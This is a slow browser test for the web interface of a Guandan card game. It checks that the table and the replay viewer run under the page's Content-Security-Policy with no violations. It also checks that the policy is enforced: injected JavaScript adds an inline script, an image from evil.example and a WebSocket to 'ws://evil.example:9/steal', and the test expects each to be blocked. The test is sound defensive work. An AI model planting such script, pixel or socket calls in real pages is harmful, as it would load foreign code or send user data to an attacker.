"""The page under its Content-Security-Policy in a real browser (headless Chromium): the table
and the viewer work with no violation in the console, and the policy is really enforced —
an inline script, an image or a socket of another origin added to the page are refused, and
the console says so (so the tests that find no console error would see a violation)."""

from __future__ import annotations

import pytest
from browser import chrome, console_errors, page_state, wait_for

from guandan.web.server import page_url_for, start_web

pytestmark = pytest.mark.slow

FOREIGN = """
const script = document.createElement("script");
script.textContent = "window.injected = 1";
document.body.appendChild(script);
const image = document.createElement("img");
image.src = "http://evil.example/pixel.png";
document.body.appendChild(image);
let socket = "made";
try { new WebSocket("ws://evil.example:9/steal"); } catch (error) { socket = error.name; }
return socket;
"""


def violations(driver):
    return [m for m in console_errors(driver) if "Content Security Policy" in m]


def test_the_table_and_the_viewer_work_under_the_policy_and_it_is_enforced(tmp_path):
    with start_web(seat=0, bots="greedy", seed=4, records=tmp_path, hint="mc:rollouts=100") as running, \
            chrome() as driver:
        driver.get(running.page_url)
        wait_for(lambda: (page_state(driver) or {}).get("act"), 30, "the first request")
        driver.find_element("id", "hint").click()  # the page's other socket, /assist
        wait_for(lambda: driver.find_elements("css selector", ".hint-choice"), 30, "the hint's choices")
        assert console_errors(driver) == []  # the table, its styles, scripts and sockets: no violation

        driver.get(page_url_for(running.url, "/viewer"))
        wait_for(lambda: driver.execute_script("return document.readyState") == "complete", 20, "the viewer")
        assert console_errors(driver) == []

        outcome = driver.execute_script(FOREIGN)
        found: list[str] = []
        def reported():
            found.extend(violations(driver))  # each read of the log empties it
            text = " ".join(found)
            return all(directive in text for directive in ("script-src", "img-src", "connect-src"))
        wait_for(reported, 10, "the three violations reported")
        injected = driver.execute_script("return window.injected === undefined")
    assert injected, "the inline script ran"
    assert outcome in ("made", "SecurityError")  # Chromium refuses the socket at connect time or at once
    text = " ".join(found)
    assert "script-src" in text and "img-src" in text and "connect-src" in text
